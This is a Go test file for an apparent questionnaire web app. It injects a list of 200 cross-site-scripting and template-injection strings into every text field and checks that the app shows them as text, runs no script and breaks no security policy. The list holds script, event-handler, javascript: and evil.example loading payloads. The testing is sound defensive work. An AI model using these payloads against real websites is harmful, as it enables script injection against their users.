package browsertest

import (
	"bytes"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"strconv"
	"strings"
	"testing"
)

// hostile are 200 strings that mean harm to a page which is careless with text.
func hostile() []string {
	bases := []string{
		`<script>hit=1</script>`, `<img src=x onerror=hit=1>`, `<svg onload=hit=1>`, `<svg><script>hit=1</script></svg>`, `<iframe src="javascript:parent.hit=1">`,
		`<iframe srcdoc="<script>parent.hit=1</script>">`, `<a href="javascript:hit=1">x</a>`, `javascript:hit=1`, `<body onload=hit=1>`, `<input autofocus onfocus=hit=1>`,
		`<details open ontoggle=hit=1>`, `<video><source onerror=hit=1></video>`, `<object data="javascript:hit=1">`, `<embed src="javascript:hit=1">`, `<math><mi xlink:href="javascript:hit=1">`,
		`<style>*{display:none}</style>`, `<link rel=stylesheet href=//evil.example/x.css>`, `<meta http-equiv=refresh content="0;url=//evil.example">`, `<base href="//evil.example/">`, `<form action="//evil.example"><button>x`,
		`"><script>hit=1</script>`, `' onmouseover='hit=1`, `" onfocus="hit=1" autofocus="`, "`${hit=1}`", `{{constructor.constructor('hit=1')()}}`,
		`${hit=1}`, `<!--><img src=x onerror=hit=1>-->`, `<![CDATA[<img src=x onerror=hit=1>]]>`, `</legend></fieldset><script>hit=1</script>`, `</title><script>hit=1</script>`,
		`<template><img src=x onerror=hit=1></template>`, `<noscript><p title="</noscript><img src=x onerror=hit=1>">`, "<img\nsrc=x\nonerror=hit=1>", "<im\x00g src=x onerror=hit=1>", `&lt;script&gt;hit=1&lt;/script&gt;`,
		`<marquee onstart=hit=1>`, `<img src="data:image/svg+xml,<svg onload=hit=1>">`, `<script src=//evil.example/x.js></script>`, `<script type=module>import "//evil.example/x.js"</script>`, `__proto__`,
	}
	wraps := []string{"%s", "low energy %s", "\u202e%s\u202c", "%s\u2028\ufeff", "𝕏é中%s%[1]s"}
	out := make([]string, 0, len(bases)*len(wraps))
	for _, w := range wraps {
		for _, b := range bases {
			out = append(out, fmt.Sprintf(w, b))
		}
	}
	return out
}

// watch counts what must not happen in a page.
const watch = `globalThis.hit = 0; globalThis.broken = []; document.addEventListener("securitypolicyviolation", (e) => broken.push(e.violatedDirective + " " + e.blockedURI)); true`

// Every one of the strings in every field of a pack, through the app's own
// screens in its own page under its own policy.
func TestAPackIsShownAsTextWhateverItHolds(t *testing.T) {
	w := start(t)
	who := w.enrol(t, "0101", "en")
	p := w.phone(t)
	p.bind(w.code(t, who))
	list, err := json.Marshal(hostile())
	if err != nil {
		t.Fatal(err)
	}
	eval[bool](p, watch)
	bad := eval[[]string](p, `(async () => {
		const base = document.querySelector("script[type=module]").src.replace(/app\.js$/, "");
		const screens = await import(base + "screens.js");
		const pack = (s) => ({
			id: s, version: s, recall: s, instruction: s, subscales: [{ code: s, name: s, items: [s] }], wording: { pack: s, language: s, direction: s, banner: s, copyright: s, licensed: false },
			items: [{ code: "A", subscale: s, text: s, choices: [0, 1].map((value) => ({ value, label: s })), opt_out: { code: s, text: s } }],
		});
		const draft = (s, value) => ({ assessment: { id: s }, answers: typeof value === "number" ? { A: value } : {}, skipped: typeof value === "string" ? { A: value } : {}, questionnaire: pack(s) });
		const act = new Proxy({}, { get: () => () => {} }), bad = [];
		const show = (s) => {
			let text = "", shape = "";
			for (const screen of [screens.question({ draft: draft(s), n: 1, back: "/" }, act), screens.review({ draft: draft(s, 1), back: "/" }, act), screens.review({ draft: draft(s, "opt_out"), back: "/" }, act)]) {
				document.getElementById("main").replaceChildren(...screen.nodes.filter(Boolean));
				shape += [...document.querySelectorAll("*")].map((e) => e.tagName + e.getAttributeNames().filter((a) => a !== "dir").join()).join(" ");
				text += document.getElementById("main").textContent;
			}
			return { text, shape };
		};
		const plain = show("plain words");
		for (const s of `+string(list)+`) {
			const { text, shape } = show(s);
			if (shape !== plain.shape) bad.push("became markup: " + s);
			if (text.split(s).length < 12) bad.push("not shown as it is: " + s);
		}
		await new Promise((go) => setTimeout(go, 100));
		return bad;
	})()`)
	for _, b := range bad {
		t.Error(b)
	}
	if hit, broken := eval[int](p, `hit`), eval[[]string](p, `broken`); hit != 0 || len(broken) > 0 {
		t.Errorf("a script ran %d times; the policy was called upon: %v", hit, broken)
	}
}

// One pack with another of the strings in each field, from the server to the receipt.
func TestAHostilePackIsAnsweredLikeAnyOther(t *testing.T) {
	w := start(t)
	who := w.enrol(t, "0101", "en")
	p := w.phone(t)
	strings200, next := hostile(), 0
	var twist func(v any, name string) any
	twist = func(v any, name string) any {
		switch v := v.(type) {
		case map[string]any:
			for key, inner := range v {
				v[key] = twist(inner, key)
			}
		case []any:
			for i := range v {
				v[i] = twist(v[i], name)
			}
		case string:
			if contains := map[string]bool{"text": true, "label": true, "name": true, "instruction": true, "banner": true, "copyright": true, "language": true}; contains[name] {
				next++
				return strings200[next%len(strings200)]
			}
		}
		return v
	}
	w.disturb(func(rw http.ResponseWriter, r *http.Request, serve http.Handler) {
		if !strings.HasPrefix(r.URL.Path, "/v1/instruments/") {
			serve.ServeHTTP(rw, r)
			return
		}
		got := httptest.NewRecorder()
		serve.ServeHTTP(got, r)
		var q any
		if err := json.NewDecoder(got.Body).Decode(&q); err != nil {
			serve.ServeHTTP(rw, r)
			return
		}
		raw, _ := json.Marshal(twist(q, ""))
		rw.Header().Set("Content-Type", "application/json")
		rw.Header().Set("Content-Length", strconv.Itoa(len(raw)))
		_, _ = io.Copy(rw, bytes.NewReader(raw))
	})
	p.bind(w.code(t, who))
	eval[bool](p, watch)
	p.until(`document.querySelector(".body > .primary")?.innerText === "Start"`)
	p.tap(".body > .primary")
	p.fill(1, 37)
	p.screen("review")
	p.tap("#send")
	p.until(`document.querySelector("h1").innerText === "Thank you"`)
	correct(t, w.oneForm(t, who))
	if hit, broken := eval[int](p, `hit`), eval[[]string](p, `broken`); hit != 0 || len(broken) > 0 {
		t.Errorf("a script ran %d times; the policy was called upon: %v", hit, broken)
	}
	if next < 40 {
		t.Errorf("only %d fields were hostile", next)
	}
}
